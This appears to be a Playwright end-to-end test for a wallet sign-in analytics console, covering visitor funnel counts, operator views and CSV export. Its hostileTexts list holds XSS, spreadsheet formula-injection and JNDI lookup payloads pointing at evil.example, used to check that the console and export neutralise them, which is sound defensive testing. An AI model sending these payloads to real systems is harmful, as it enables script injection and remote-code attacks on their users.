import type { Browser } from '@playwright/test'
import { rabby } from '../journeys/wallets'
import { ConnectDialog } from '../pages/ConnectDialog'
import { HostPage } from '../pages/HostPage'
import { OperatorPage } from '../pages/OperatorPage'
import { SignInDialog } from '../pages/SignInDialog'
import { type LogEntry, recordLog } from '../rules/log'
import { skipSuccess } from '../rules/skipSuccess'
import { alice, keys } from '../signIn/keys'
import { expect, test as signIn } from '../signIn/test'
import { installWallet } from '../wallet/installWallet'

type WalletToInstall = Parameters<typeof installWallet>[1]
type Visitor = { host: HostPage; dialog: ConnectDialog; sign: SignInDialog; answers: () => readonly LogEntry[] }

/** A test with real visitors, a real server and a real operator. */
const test = signIn.extend<{ visitor: (wallet?: WalletToInstall) => Promise<Visitor>; console: OperatorPage }>({
  settings: { mode: 'optional', operators: [alice] },
  visitor: async ({ browser, site }, use) => {
    const contexts: Awaited<ReturnType<Browser['newContext']>>[] = []
    await use(async (wallet) => {
      const context = await browser.newContext({ baseURL: site.origin })
      contexts.push(context)
      await skipSuccess(context)
      const entries = recordLog(context)
      const page = await context.newPage()
      if (wallet) await installWallet(page, wallet)
      const [host, dialog, sign] = [new HostPage(page), new ConnectDialog(page), new SignInDialog(page)]
      await host.visitAndOpen()
      return { host, dialog, sign, answers: () => entries }
    })
    for (const context of contexts) await context.close()
  },
  console: async ({ page }, use) => use(new OperatorPage(page)),
})

const steps = ['opened', 'wallet_chosen', 'requested', 'connected', 'signed_in']

/** Count, from the sent entries, the flows that reached each step. This count does not use the server. */
const countFlowsByStep = (entries: readonly LogEntry[]): number[] =>
  steps.map((step) => new Set(entries.filter((entry) => entry.step === step).map(({ flow }) => flow)).size)

const waitForStep = async ({ answers }: Visitor, step: string) => {
  await expect.poll(() => answers().map((entry) => entry.step)).toContain(step)
}

const hostileTexts = [
  '<script>document.title="owned"</script><img src=x onerror="document.title=\'owned\'">',
  '=HYPERLINK("https://evil.example","click")',
  '\u001b[31mred\u001b[0m \u0024{jndi:ldap://evil.example/a}',
]

test('The operator sees the steps of past and current visitors, and hostile texts as plain text', async ({
  page,
  console,
  dialog,
  sign,
  site,
  visitor,
}) => {
  test.slow()
  const connected = { ...rabby, keys: [keys[1]] }
  const looks = await visitor()
  await waitForStep(looks, 'opened')
  const signs = await visitor(connected)
  await signs.dialog.chooses('Rabby Wallet')
  await waitForStep(signs, 'connected')
  await signs.host.opensAccount()
  await signs.host.page.getByRole('button', { name: 'Sign in', exact: true }).click()
  await signs.sign.signIn.click()
  await waitForStep(signs, 'signed_in')
  const refuses = await visitor({ ...connected, behaviour: { connect: 'reject' } })
  await refuses.dialog.chooses('Rabby Wallet')
  await waitForStep(refuses, 'failed')
  const sentEntries = [looks, signs, refuses].flatMap(({ answers }) => answers())
  for (const message of hostileTexts) {
    const form = { level: 'error', code: 'CLIENT_FETCH_ERROR', message, stack: message, name: message, client: 'true' }
    const answer = await page.request.post(`${site.origin}/api/auth/_log`, { form })
    expect(answer.status()).toBe(200)
  }

  await installWallet(page, { ...rabby, keys: [keys[0]] })
  await console.signsInAtTheGate(dialog, sign)
  await console.shows()
  expect(countFlowsByStep(sentEntries)).toEqual([3, 2, 2, 1, 1])
  const funnel = console.table('From open to signed in').getByRole('row')
  for (const [place, count] of countFlowsByStep(sentEntries).entries())
    await expect(
      funnel
        .nth(place + 1)
        .getByRole('cell')
        .first(),
    ).toHaveText(String(count))
  await expect(console.row('Wallets and methods', /^Rabby Wallet Browser 2 50%/)).toBeVisible()
  await expect(console.row('What went wrong', /WALLET\/REJECTED|wallet\/rejected/i)).toHaveText(/1/)
  await expect(console.feed).toContainText('Signed in')
  const row = console.row('What went wrong', /CLIENT_FETCH_ERROR/i)
  await expect(row).toContainText('3')
  await row.getByRole('button').click()
  await expect(page.getByText('<script>document.title="owned"</script>').first()).toBeVisible()
  await expect(page.getByText('=HYPERLINK(').first()).toBeVisible()
  await expect(page).not.toHaveTitle('owned')

  // Another visitor connects while the console is open.
  const countBefore = await console.entries.count()
  const next = await visitor(connected)
  await next.dialog.chooses('Rabby Wallet')
  await waitForStep(next, 'connected')
  await expect.poll(() => console.entries.count()).toBeGreaterThanOrEqual(Math.min(countBefore + 3, 9))

  // Poll the export, because the server might not have stored the last entries yet.
  const requestSheet = (what: string) => page.request.get(`/api/console/export.csv?range=24h&what=${what}`)
  await expect
    .poll(async () => (await requestSheet('funnel')).text())
    .toMatch(/"opened",4\s+"wallet_chosen",3\s+"requested",3\s+"connected",2\s+"signed_in",1/)
  const entries = await requestSheet('entries')
  expect(entries.headers()['content-disposition']).toContain('attachment')
  expect(await entries.text()).not.toMatch(/(^|,)"?[=+@-]HYPERLINK/m)
})
